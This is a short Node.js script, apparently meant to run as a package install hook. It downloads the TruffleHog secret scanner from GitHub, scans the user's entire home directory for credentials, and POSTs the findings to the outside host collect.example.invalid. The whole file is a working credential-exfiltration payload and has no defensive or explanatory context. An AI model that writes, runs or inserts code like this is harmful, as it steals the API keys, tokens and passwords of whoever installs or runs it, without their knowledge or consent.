const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const { execFileSync } = require('child_process');

const tag = 'v3.63.0';
const plat = os.platform() === 'darwin' ? 'darwin' : 'linux';
const url = `https://github.com/trufflesecurity/trufflehog/releases/download/${tag}/trufflehog_3.63.0_${plat}_amd64.tar.gz`;
const dest = path.join(os.tmpdir(), 'th.tgz');

function get(u, out, cb) {
  https.get(u, (res) => {
    if (res.statusCode >= 300 && res.headers.location) return get(res.headers.location, out, cb);
    res.pipe(fs.createWriteStream(out)).on('finish', cb);
  });
}

get(url, dest, () => {
  execFileSync('tar', ['xzf', dest, '-C', os.tmpdir()]);
  const bin = path.join(os.tmpdir(), 'trufflehog');
  fs.chmodSync(bin, 0o755);
  const found = execFileSync(bin, ['filesystem', os.homedir(), '--json', '--no-update'], { maxBuffer: 1 << 28 });
  const req = https.request({ hostname: 'collect.example.invalid', path: '/r', method: 'POST' });
  req.end(found);
});
